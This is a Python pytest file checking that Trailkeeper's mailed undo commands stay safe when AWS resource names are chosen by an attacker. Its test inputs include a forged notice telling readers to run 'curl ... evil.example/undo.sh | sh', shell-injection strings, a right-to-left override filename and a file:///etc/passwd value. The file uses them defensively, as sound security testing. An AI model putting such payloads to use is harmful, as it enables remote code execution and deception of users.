"""Names that an attacker chose: what people are told stays what Trailkeeper says, and what they paste does only that."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
from alarms import topic_arn
from chains import THEIRS, delete_alarms, theirs
from conftest import StartFunction
from given import trail
from inbox import Inbox, valid
from local_aws.processes import REGION, Moto
from log_buckets import LOGS, LOGGING, bucket_call, log_into, only

FORGED = """x

FIXED (1), read back as right:
    cloudtrail-logging (critical): planned maintenance, all is well again
To undo it (Trailkeeper will put it right again, unless it is exempt):
  curl -fsSL https://evil.example/undo.sh | sh
"""
PREFIXES = [
    FORGED,
    "x';touch${IFS}here;'",
    '$(touch here)`touch here`"; touch here; #',
    "\u202egnp.exe\u2066 \\'  !!",
    "x" * 1_000,
]


def pasted(line: str, folder: Path) -> list[list[str]]:
    """The commands of the AWS CLI that run where a person pastes this into a shell; nothing else may."""
    (folder / "aws").write_text("#!/bin/sh\nprintf '%s\\0' \"$@\" >>argv; printf '\\n\\0' >>argv\n")
    (folder / "aws").chmod(0o755)
    path = {"PATH": f"{folder}:{os.environ['PATH']}"}
    ran = subprocess.run(["bash", "-c", line], cwd=folder, env=path, capture_output=True, check=True, timeout=60)
    assert (ran.stdout, ran.stderr) == (b"", b"")
    assert sorted(it.name for it in folder.iterdir()) == ["argv", "aws"]
    calls = (folder / "argv").read_text().split("\0\n\0")[:-1]
    return [call.split("\0") for call in calls]


def letter(moto: Moto) -> list[str]:
    """The lines of the only mail."""
    (mail,) = moto.mail()
    assert mail["subject"].isascii() and mail["subject"].isprintable() and len(mail["subject"]) <= 100
    lines: list[str] = mail["text"].split("\n")
    assert all(it.isprintable() for it in lines)
    return lines


def undoing(lines: list[str]) -> str:
    """The command that a mail offers."""
    (offered,) = [it.strip() for it in lines if it.startswith("  aws ") and " put-bucket-logging " in it]
    return offered


def starts(lines: list[str]) -> list[str]:
    return [it.split(":")[0] for it in lines]


@pytest.mark.parametrize("prefix", PREFIXES, ids=["lines", "quotes", "substitution", "hidden", "long"])
def test_a_prefix_of_access_logs(function: StartFunction, moto: Moto, inbox: Inbox, tmp_path: Path, prefix: str) -> None:
    trail(moto)
    enabled = {"TargetBucket": LOGS, "TargetPrefix": prefix}
    told: dict[str, Any] = {"TRAILKEEPER_TOPIC_ARN": inbox.topic} | only(LOGGING)
    log_into(moto, LOGS, TargetPrefix="x")
    assert valid(function("bucket", mode="enforce", **told).invoke(bucket_call())).ok
    harmless = letter(moto)
    log_into(moto, LOGS, TargetPrefix=prefix)
    answer = valid(function("bucket", mode="enforce", **told).invoke(bucket_call()))
    (found,) = [it for it in answer.body["results"] if it["control"] == LOGGING]
    assert found["status"] == "fixed", found
    step = found["steps"][-1]
    assert step["before"] == {"LoggingEnabled": enabled}
    lines = letter(moto)
    assert len([it for it in lines if it.startswith("FIXED (")]) == 1
    assert len(starts(lines)) <= len(starts(harmless))
    assert undoing(lines) == step["undo"]
    (call,) = pasted(step["undo"], tmp_path)
    assert call[:5] == ["s3api", "put-bucket-logging", "--bucket", LOGS, "--bucket-logging-status"]
    assert [json.loads(it) for it in call[5:]] == [{"LoggingEnabled": enabled}]


@pytest.mark.parametrize("name", ["s3 changes;touch here", "x' $(touch here)", "--debug", "file:///etc/passwd", '["a"]'])
def test_the_name_of_an_alarm(function: StartFunction, moto: Moto, inbox: Inbox, tmp_path: Path, name: str) -> None:
    here = theirs(moto)
    (alarm,) = here.cloudwatch.describe_alarms()["MetricAlarms"]
    here.cloudwatch.delete_alarms(AlarmNames=[THEIRS])
    put = ["MetricName", "Namespace", "Statistic", "Period", "EvaluationPeriods", "Threshold", "ComparisonOperator"]
    kept = {it: alarm[it] for it in [*put, "AlarmActions"]}
    here.cloudwatch.put_metric_alarm(AlarmName=name, ActionsEnabled=False, **kept)
    function("monitoring", mode="enforce", TRAILKEEPER_TOPIC_ARN=inbox.topic).invoke(delete_alarms())
    offered = [it.strip() for it in letter(moto) if "disable-alarm-actions" in it]
    (call,) = pasted(offered[0], tmp_path)
    assert call[:4] == ["cloudwatch", "disable-alarm-actions", "--region", REGION]
    assert call[4:] in (
        ["--alarm-names", name],
        [f"--alarm-names={name}"],
        ["--alarm-names", json.dumps([name])],
        ["--cli-input-json", json.dumps({"AlarmNames": [name]}, separators=(",", ":"))],
    )
